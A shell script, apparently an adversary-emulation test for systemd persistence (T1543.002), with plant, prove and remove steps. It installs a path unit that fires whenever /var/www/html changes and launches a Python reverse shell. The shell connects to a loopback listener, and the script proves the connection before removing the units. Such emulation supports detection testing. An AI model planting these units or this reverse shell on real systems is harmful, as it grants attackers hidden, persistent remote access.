#!/bin/sh
# T1543.002 (quiet): A path unit starts a program whenever a web file changes
M=/var/tmp/luytre-foothold N=08-path-unit
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
listen() { # a listener on loopback that notes who connects
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import socket, sys
s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); s.settimeout(75)
c, _ = s.accept(); open(sys.argv[2], "w").write("connected"); c.sendall(b"exit\n")
END
  sleep 0.4; }
plant() {
  w /etc/systemd/system/web-index.path <<'E'
[Path]
PathChanged=/var/www/html
[Install]
WantedBy=multi-user.target
E
  w /etc/systemd/system/web-index.service <<'E'
[Service]
Type=oneshot
ExecStart=/usr/bin/python3 -c "import socket,os;s=socket.create_connection(('127.0.0.1',47008));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.execl('/bin/sh','sh')"
E
  systemctl daemon-reload; systemctl -q enable --now web-index.path
}
prove() {
  rm -f "$M/$N"
  listen 47008
  touch /var/www/html/.lt; rm -f /var/www/html/.lt
  seen
}
remove() {
  systemctl -q disable --now web-index.path; rm -f /etc/systemd/system/web-index.*; systemctl daemon-reload
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
